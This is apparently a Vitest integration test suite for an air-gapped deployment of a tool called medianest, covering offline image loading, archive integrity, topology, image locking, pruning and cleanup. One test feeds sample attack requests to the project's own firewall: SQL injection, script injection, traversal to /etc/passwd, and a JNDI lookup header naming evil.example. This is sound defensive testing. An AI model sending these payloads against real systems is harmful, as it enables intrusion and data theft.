import { readFileSync, statSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type OwnEngine, ownEngine } from '../../support/engine/own-engine.ts';
import { atMost } from '../../support/pace.ts';
import { type JsonError, parsed } from '../../support/stack.ts';
import { type Workspace, workspace } from '../../support/workspace.ts';

/** A host without a network and without images: everything comes in one file. */
describe('an air-gapped host', () => {
  let space: Workspace;
  let host: OwnEngine;
  const there = (args: readonly string[]) => host.medianest(args, space.dir);
  const archive = () => path.join(space.dir, 'images.tar');

  beforeAll(async () => {
    space = await workspace('air', 'profile: prod\n');
    // Its loopback is down, so that no port can be published there.
    space.configure({ profile: 'prod', edge: { address: '0.0.0.0' } });
    host = await ownEngine('air');
  });
  afterAll(async () => {
    await host?.stop();
    await space?.destroy();
  });

  test('is told all that it lacks, and nothing is changed', async () => {
    const { error } = parsed<JsonError>(await there(['up', '--offline', '--json']));
    expect(error).toMatchObject({ code: 'IMAGE_MISSING', hint: expect.stringContaining('images load') });
    for (const name of ['edge', 'app', 'patroni', 'redis']) expect(error.message).toContain(`medianest/${name}:`);
    expect((await host.docker(['ps', '--all', '--quiet'])).stdout).toBe('');
  });

  test('is given an archive that was saved elsewhere, which is never overwritten', async () => {
    const saved = await space.run(['images', 'save', '--out', archive(), '--json']);
    expect(parsed<{ images: string[]; bytes: number }>(saved)).toMatchObject({
      images: expect.arrayContaining([expect.stringContaining('medianest/app:')]),
      bytes: statSync(archive()).size,
    });
    expect(parsed<JsonError>(await space.run(['images', 'save', '--out', archive(), '--json'])).error.code).toBe('ALREADY_THERE');
  });

  test('refuses one that arrived in part, or is something else', async () => {
    const cut = space.write('cut.tar', '');
    writeFileSync(cut, readFileSync(archive()).subarray(0, 50_000_000));
    for (const file of [cut, space.write('junk.tar', 'hello')])
      expect(parsed<JsonError>(await there(['images', 'load', file, '--json'])).error).toMatchObject({
        code: 'ARCHIVE_DAMAGED',
        hint: expect.stringContaining('sha256sum'),
      });
    expect((await host.docker(['images', '--quiet'])).stdout).toBe('');
  });

  test('runs all of prod from it, without building or pulling', { timeout: 600_000 }, async () => {
    const loaded = parsed<{ loaded: string[]; missing: string[] }>(await there(['images', 'load', archive(), '--json']));
    expect(loaded.missing).toEqual([]);
    const up = await there(['up', '--offline', '--timeout', '500']);
    // Its last words first: they tell why.
    expect([up.status, up.status === 0 ? '' : up.stderr.slice(up.stderr.lastIndexOf('Error: ')).slice(0, 1500)]).toEqual([0, '']);
    expect(up.stderr).not.toMatch(/build image|pull image/);
    expect((await there(['health'])).status).toBe(0);
  });

  test('blocks attacks, by Debian’s rules', async () => {
    const { from } = parsed<{ from: string }>(await there(['waf', 'rules', '--json']));
    expect(from).toBe('Debian');
    const { images } = parsed<{ images: { name: string; ref: string }[] }>(await there(['images', 'build', '--dry-run', '--json']));
    const withCurl = images.find(({ name }) => name === 'patroni')?.ref as string;
    const asked = async (id: string, ...args: string[]) => {
      const curl = ['-sk', '-o', '/dev/null', '-w', '%{http_code}', '-A', 'Mozilla/5.0', '-H', `x-request-id: ${id}`, ...args];
      const from = ['run', '--rm', '--network', `${space.project}_dmz`, '--entrypoint', 'curl', withCurl];
      return (await host.docker([...from, ...curl, '--connect-to', '::edge:8443'])).stdout;
    };
    const page = 'https://localhost/';
    expect(await asked('visitor', `${page}?q=the+third+man`)).toBe('200');
    const attacks = {
      'by-injection': [`${page}?id=1%20UNION%20SELECT%20password%20FROM%20users`],
      'by-script': [`${page}?q=%3Cscript%3Ealert(1)%3C/script%3E`],
      'by-traversal': [`${page}?file=../../../../etc/passwd`],
      'by-lookup': [page, '-H', 'x-api-version: ${jndi:ldap://evil.example/a}'],
    };
    for (const [id, args] of Object.entries(attacks)) expect([id, await asked(id, ...args)]).toEqual([id, '403']);
    const { entries } = parsed<{ entries: { requestId: string; blocked: boolean }[] }>(
      await there(['waf', 'log', '--since', '10m', '--json']),
    );
    const blocked = entries.filter((entry) => entry.blocked).map(({ requestId }) => requestId);
    expect(blocked.sort()).toEqual(Object.keys(attacks).sort());
  });

  test('is drawn as it runs, with roles and lag, in a second and a half', async () => {
    const bound = await atMost(1.5);
    const started = performance.now();
    const { topology } = parsed<{
      topology: { groups: { component: string; nodes: { name: string; state: string; role?: string; details: string[] }[] }[] };
    }>(await there(['topology', '--live', '--json']));
    const took = (performance.now() - started) / 1000;
    const nodes = topology.groups.flatMap((group) => group.nodes);
    expect(nodes.filter(({ state }) => state !== 'healthy')).toEqual([]);
    const database = nodes.filter(({ name }) => name.startsWith('postgres-'));
    expect(database.map(({ role }) => role).sort()).toEqual(['leader', 'replica']);
    expect(database.find(({ role }) => role === 'replica')?.details.join()).toContain('lag');
    expect(took).toBeLessThan(bound);
  });

  test('records what its images are, and tells when one is another', async () => {
    expect((await there(['images', 'lock'])).status).toBe(0);
    const lock = JSON.parse(readFileSync(path.join(space.dir, 'medianest.lock.json'), 'utf8')) as {
      images: Record<string, { ref: string; id: string; packages: Record<string, { version: string }> }>;
    };
    expect(lock.images.patroni).toMatchObject({
      id: expect.stringMatching(/^sha256:/),
      packages: { 'postgresql-17': { version: expect.stringMatching(/^17\./) } },
    });
    // What is only compared is asked of no mirror: without a network that takes a minute.
    const same = await there(['images', 'lock', '--check']);
    expect([same.status, same.stderr]).toEqual([0, expect.not.stringMatching(/mirror|suites/)]);
    // Under all of its names: what builds are held to has another than what was there before.
    const { id = '' } = lock.images.redis ?? {};
    const { stdout } = await host.docker(['images', '--no-trunc', '--format', '{{.ID}} {{.Repository}}:{{.Tag}}']);
    const names = stdout.split('\n').flatMap((line) => (line.startsWith(`${id} `) ? [line.slice(id.length + 1)] : []));
    expect(names.length).toBeGreaterThan(0);
    for (const name of names) await host.docker(['tag', lock.images.edge?.id as string, name]);
    const changed = await there(['images', 'lock', '--check']);
    expect([changed.status, changed.stdout]).toEqual([3, expect.stringMatching(/redis is another image: .*redis-server \S+ -> none/)]);
    for (const name of names) await host.docker(['tag', id, name]);
    expect((await there(['images', 'lock', '--check'])).status).toBe(0);
  });

  test('loses unused images of medianest on request, and none of anybody else', async () => {
    const container = (await host.docker(['ps', '--all', '--quiet', '--filter', 'label=io.medianest.component=edge'])).stdout.trim();
    const before = (await host.docker(['images', '--format', '{{.Repository}}:{{.Tag}}'])).stdout.split('\n').filter(Boolean);
    // New images, which carry our label because ours do.
    for (const name of ['medianest/edge:0123456789ab', 'theirs/edge:1', 'medianest/edge:mine'])
      await host.docker(['commit', '--change', `LABEL of=${name}`, container, name]);
    expect((await there(['images', 'prune'])).status).toBe(2);
    expect((await there(['images', 'prune', '--dry-run'])).stdout).toBe('would remove medianest/edge:0123456789ab\n');
    expect(parsed<{ removed: string[] }>(await there(['images', 'prune', '--yes', '--json'])).removed).toEqual([
      'medianest/edge:0123456789ab',
    ]);
    const after = (await host.docker(['images', '--format', '{{.Repository}}:{{.Tag}}'])).stdout.split('\n').filter(Boolean);
    expect(after.sort()).toEqual([...before, 'theirs/edge:1', 'medianest/edge:mine'].sort());
  });

  test('is rid of what a killed run has left, by doctor --fix, and of nothing else', async () => {
    await host.docker(['network', 'create', '--label', 'io.medianest.project=long-gone', 'long-gone_app']);
    await host.docker(['network', 'create', 'theirs']);
    const found = parsed<{ fixed: string[]; checks: unknown[] }>(await there(['doctor', '--only', 'leftover', '--fix', '--yes', '--json']));
    expect(found).toMatchObject({ fixed: ['remove the unused network long-gone_app'], checks: [] });
    const networks = (await host.docker(['network', 'ls', '--format', '{{.Name}}'])).stdout;
    expect([networks.includes('long-gone_app'), networks.includes('theirs'), networks.includes(`${space.project}_db`)]).toEqual([
      false,
      true,
      true,
    ]);
  });
});
